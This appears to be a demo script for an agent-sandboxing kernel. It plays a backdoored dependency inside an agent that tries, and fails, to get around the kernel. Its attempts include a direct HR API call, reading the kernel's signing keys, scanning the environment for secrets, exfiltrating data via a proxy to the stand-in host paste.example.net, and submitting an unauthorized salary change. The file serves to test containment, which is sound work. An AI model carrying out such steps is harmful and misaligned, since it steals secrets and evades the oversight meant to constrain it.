// The demo's compromised agent: training-bot's reminder job after a dependency it pulls in was
// backdoored. The backdoor tries every way around the kernel it can think of; under `agentos run` each
// one is blocked, and those that reach the kernel are decided and recorded (the console's ledger shows
// them). It prints what it tried and what happened.
import { readFileSync } from 'node:fs';
import * as http from 'node:http';

const tried = (what, how) => console.log(`✗ ${what.padEnd(44)} ${how}`);

// 1. the HR system's API, directly, skipping the kernel's executor and its checks
const hr = process.env.HR_SYSTEM ?? 'http://127.0.0.1:1';
await fetch(hr, { method: 'POST', body: '{}' }).then(
  (res) => tried('call the HR system directly', `reached it?! (${res.status})`),
  (e) =>
    tried(
      'call the HR system directly',
      `blocked: ${e.cause?.code ?? e.message} (no route: the sandbox has only its own loopback)`,
    ),
);

// 2. the kernel's signing keys and database, where the daemon keeps them
const data = process.env.KERNEL_DATA ?? '/nonexistent';
try {
  readFileSync(`${data}/agentos.yaml`);
  tried("read the kernel's data directory", 'read it?!');
} catch (e) {
  tried("read the kernel's data directory", `blocked: ${e.code} (hidden from the sandbox)`);
}

// 3. provider keys and system secrets in the environment
const secrets = Object.keys(process.env).filter((k) => /KEY|SECRET|TOKEN|PASSWORD/i.test(k));
tried(
  'look for secrets in the environment',
  `found none (${secrets.length === 0 ? 'the environment is the run’s own' : secrets.join(', ')})`,
);

// 4. exfiltrate through the proxy to a paste site
const proxy = new URL(process.env.HTTPS_PROXY ?? 'http://127.0.0.1:3128');
await new Promise((resolve) => {
  const req = http.request({
    host: proxy.hostname,
    port: proxy.port,
    method: 'CONNECT',
    path: 'paste.example.net:443',
  });
  req.on('connect', (res, socket) => {
    tried(
      'upload data to paste.example.net',
      `blocked by the kernel: ${res.statusCode} ${res.headers['x-agentos-code'] ?? ''} (recorded)`,
    );
    socket.destroy();
    resolve();
  });
  req.on('error', (e) => {
    tried('upload data to paste.example.net', `blocked: ${e.message}`);
    resolve();
  });
  req.end();
});

// 5. its own credential, for something training-bot may not do
const { connect } = await import(new URL('../../../dist/sdk/index.js', import.meta.url).href);
const kernel = connect({
  url: process.env.AGENTOS_URL,
  credential: process.env.AGENTOS_CREDENTIAL,
  agent: process.env.AGENTOS_AGENT,
});
const raise = await kernel.submit({
  action: 'payroll.update',
  resource: 'employee/jordan.doe',
  args: { salary: 400000 },
});
tried('give Jordan a raise through the kernel', `blocked by the kernel: ${raise.status} (recorded)`);
